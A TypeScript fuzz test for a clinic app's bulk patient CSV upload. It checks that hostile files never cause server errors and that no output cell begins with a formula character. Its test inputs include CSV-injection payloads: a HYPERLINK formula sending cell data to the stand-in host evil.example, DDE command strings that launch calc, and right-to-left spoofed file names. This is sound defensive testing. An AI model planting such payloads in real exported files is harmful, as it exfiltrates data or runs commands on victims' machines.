import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect } from 'vitest';
import type { HostSpecOptions } from '../host.suite.js';
import { withHost } from '../host.suite.js';
import { AccountApi, HEADER, personRow } from '../support/api.js';

/**
 * Cases per host: CAREBRIDGE_FUZZ_RUNS sets it (more for a longer hunt); CAREBRIDGE_FUZZ_SEED replays the
 * run whose seed a failure printed.
 */
const FUZZ_RUNS = Number(process.env.CAREBRIDGE_FUZZ_RUNS) || undefined;
const FUZZ_SEED = process.env.CAREBRIDGE_FUZZ_SEED === undefined ? undefined : Number(process.env.CAREBRIDGE_FUZZ_SEED);

const FORMULA_START = /^[=+\-@\t\r]/;
const BOM = '\uFEFF';
const encoder = new TextEncoder();

/** Cells a hostile or broken spreadsheet holds. */
const hostileCell: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+cmd',
    "-2+3+cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    "'=1",
    '=',
    'Doe\u202egnp.exe',
    'Jane\u2066x\u2069',
    '\u200fAnn',
    'A\u0000B',
    '\u0001',
    'x\u007fy',
    '"',
    '"unclosed',
    'say "hi"',
    'a,b',
    'two\nlines',
    'cr\ronly',
    'crlf\r\ninside',
    BOM,
    `${BOM}firstName`,
    '😀',
    '\uFFFD',
    '',
    ' ',
  ),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.integer({ min: 190, max: 1_100 }).map((n) => 'N'.repeat(n)),
);

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

/** A cell as written into the file: as it is (unbalanced quotes and all) or quoted properly. */
const writtenCell = fc.tuple(hostileCell, fc.boolean()).map(([cell, quote]) => (quote ? quoted(cell) : cell));

const headerCells: fc.Arbitrary<string[]> = fc.oneof(
  { weight: 6, arbitrary: fc.constant(HEADER.split(',')) },
  // Extra columns: unknown ones, known ones again (in another case), formula or hostile names.
  {
    weight: 4,
    arbitrary: fc
      .array(fc.oneof(fc.constantFrom('notes', 'Notes', ' FIRSTNAME', 'zip', 'city-1', '=cmd', '@x', 'status', ''), hostileCell), { minLength: 1, maxLength: 4 })
      .map((extra) => [...HEADER.split(','), ...extra]),
  },
  // Required columns missing.
  { weight: 1, arbitrary: fc.shuffledSubarray(HEADER.split(','), { minLength: 1 }) },
);

/** A data row: valid, valid with some cells replaced by hostile ones, or hostile throughout. */
const rowCells = (width: number): fc.Arbitrary<string[]> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.nat({ max: 50 }).map((k) => personRow(k, { hieOptOut: 'true' }).split(',')) },
    {
      weight: 4,
      arbitrary: fc
        .tuple(fc.nat({ max: 50 }), fc.array(fc.tuple(fc.nat({ max: width + 2 }), writtenCell), { minLength: 1, maxLength: 4 }))
        .map(([k, swaps]) => {
          const cells = personRow(k, { hieOptOut: 'true' }).split(',');
          for (const [at, cell] of swaps) cells[at] = cell;
          return Array.from(cells, (cell) => cell ?? '');
        }),
    },
    { weight: 1, arbitrary: fc.array(writtenCell, { minLength: 1, maxLength: width + 3 }) },
  );

const lineEnd = fc.constantFrom('\n', '\r\n', '\r');

/** Text of a file: a header, rows, line ends of one kind or mixed, sometimes no final line end. */
const csvFileText: fc.Arbitrary<string> = headerCells.chain((header) =>
  fc
    .record({
      rows: fc.array(rowCells(header.length), { maxLength: 8 }),
      ends: fc.oneof(lineEnd.map((end) => () => end), fc.array(lineEnd, { minLength: 1, maxLength: 5 }).map((ends) => (i: number) => ends[i % ends.length]!)),
      finalEnd: fc.boolean(),
      bom: fc.boolean(),
    })
    .map(({ rows, ends, finalEnd, bom }) => {
      const lines = [header.join(','), ...rows.map((row) => row.join(','))];
      let text = bom ? BOM : '';
      lines.forEach((line, i) => (text += line + (i < lines.length - 1 || finalEnd ? ends(i) : '')));
      return text;
    }),
);

/** Byte-level damage: BOMs and bytes in odd places, a cut, bytes that are not UTF-8. */
const damage: fc.Arbitrary<(bytes: Uint8Array) => Uint8Array> = fc.oneof(
  { weight: 6, arbitrary: fc.constant((bytes: Uint8Array) => bytes) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.nat(), fc.constantFrom([0xef, 0xbb, 0xbf], [0x00], [0xff, 0xfe], [0xc3], [0xe2, 0x80, 0xae], [0x0d], [0x22], [0x80]))
      .map(([at, inserted]) => (bytes: Uint8Array) => {
        const cut = at % (bytes.length + 1);
        return new Uint8Array([...bytes.subarray(0, cut), ...inserted, ...bytes.subarray(cut)]);
      }),
  },
  { weight: 1, arbitrary: fc.nat().map((at) => (bytes: Uint8Array) => bytes.subarray(0, at % (bytes.length + 1))) },
);

const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52];

/** A whole file: mostly CSV text, damaged or not; a few are binary or deliberately huge. */
const hostileFile: fc.Arbitrary<{ kind: string; bytes: Uint8Array }> = fc.oneof(
  { weight: 30, arbitrary: fc.tuple(csvFileText, damage).map(([text, harm]) => ({ kind: 'csv', bytes: harm(encoder.encode(text)) })) },
  { weight: 2, arbitrary: fc.uint8Array({ maxLength: 600 }).map((bytes) => ({ kind: 'random bytes', bytes })) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((tail) => ({ kind: 'png', bytes: new Uint8Array([...PNG, ...tail]) })) },
  // Many columns: a header and rows 5,000 cells wide.
  {
    weight: 1,
    arbitrary: fc.nat({ max: 3 }).map((rows) => {
      const extra = Array.from({ length: 5_000 }, (_, i) => `c${i}`);
      const lines = [[...HEADER.split(','), ...extra].join(','), ...Array.from({ length: rows }, (_, k) => [personRow(k, { hieOptOut: 'true' }), ...extra.map((_, i) => (i % 7 === 0 ? '=1' : 'v'))].join(','))];
      return { kind: 'many columns', bytes: encoder.encode(lines.join('\n')) };
    }),
  },
  // One huge cell: past the parser's 1 MB record bound, or just under it.
  {
    weight: 1,
    arbitrary: fc.constantFrom(900_000, 1_100_000).map((size) => ({
      kind: `a ${size}-character cell`,
      bytes: encoder.encode(`${HEADER},notes\n${personRow(1)},"${'x'.repeat(size)}"\n`),
    })),
  },
  // Very long rows of many short lines: a few thousand rows, quoted line breaks among them.
  {
    weight: 1,
    arbitrary: fc.integer({ min: 500, max: 3_000 }).map((rows) => ({
      kind: `${rows} rows`,
      bytes: encoder.encode([`${HEADER},notes`, ...Array.from({ length: rows }, (_, k) => `${personRow(k % 40, { hieOptOut: 'true' })},"-${k}\r\n@"`)].join('\r\n')),
    })),
  },
);

export function defineBulkFuzzGroup({ describe, test, makeHost, numRuns = 20 }: HostSpecOptions): void {
  // By default 200 cases in process and 100 over HTTP (a host asking for fewer property runs), ~10-30 s each.
  const runs = FUZZ_RUNS ?? (numRuns >= 20 ? 200 : 100);
  describe('bulk patient create: fuzzed hostile files', () => {
    test(`property (seeded, ${runs} cases; CAREBRIDGE_FUZZ_RUNS for more): no 5xx, every request ends completed or failed with a reason, a completed one has a well-formed result with one outcome per row and no cell a spreadsheet would run`, { timeout: 600_000 }, async () => {
      await withHost(makeHost, async (host) => {
        const api = await AccountApi.create(host, 'Fuzz Clinic');
        await api.createFacility();
        await fc.assert(
          fc.asyncProperty(hostileFile, async ({ kind, bytes }) => {
            const started = await api.startBulk();
            expect(started.status, started.text).toBe(200);
            const uploaded = await api.upload(started.body.uploadUrl, bytes);
            expect(uploaded.status, `${kind}: ${uploaded.text}`).toBeLessThan(500);
            if (uploaded.status !== 200) {
              expect(uploaded.status, uploaded.text).toBe(400);
              expect(uploaded.body.code).toMatch(/^CSV_(INVALID|TOO_MANY_ROWS)$/);
              expect(uploaded.body.detail).toEqual(expect.any(String));
            }
            await host.settle();
            const response = await api.bulkStatus(started.body.requestId);
            expect(response.status, response.text).toBe(200);
            const status = response.body;
            expect(['completed', 'failed'], `${kind}: ${JSON.stringify(status)}`).toContain(status.status);
            if (status.status === 'failed') {
              expect(status.reason, kind).toEqual(expect.stringMatching(/\S/));
              if (uploaded.status !== 200) expect(status.reason).toBe(uploaded.body.detail);
              return;
            }
            expect(uploaded.status, kind).toBe(200);
            expect(status).toMatchObject({ processed: status.total });
            expect(status.succeeded + status.failed).toBe(status.total);
            const result = await host.fetchUrl(status.result, { method: 'GET' });
            expect(result.status, result.text).toBe(200);
            // Strict RFC 4180: a result a reader has to guess at is a failure too.
            const rows = parse(result.text, { relax_column_count: true }) as string[][];
            expect(rows, kind).toHaveLength(status.total + 1);
            let succeeded = 0;
            for (const row of rows.slice(1)) {
              const [outcome, reason] = row.slice(-2);
              expect(['succeeded', 'failed'], JSON.stringify(row.slice(-3))).toContain(outcome);
              if (outcome === 'succeeded') succeeded++;
              else expect(reason, 'a failed row says why').toMatch(/\S/);
            }
            expect(succeeded).toBe(status.succeeded);
            for (const row of rows) for (const cell of row) expect(cell, `${kind}: a cell a spreadsheet would run`).not.toMatch(FORMULA_START);
          }),
          { numRuns: runs, seed: FUZZ_SEED, endOnFailure: runs > 500 },
        );
      });
    });
  });
}
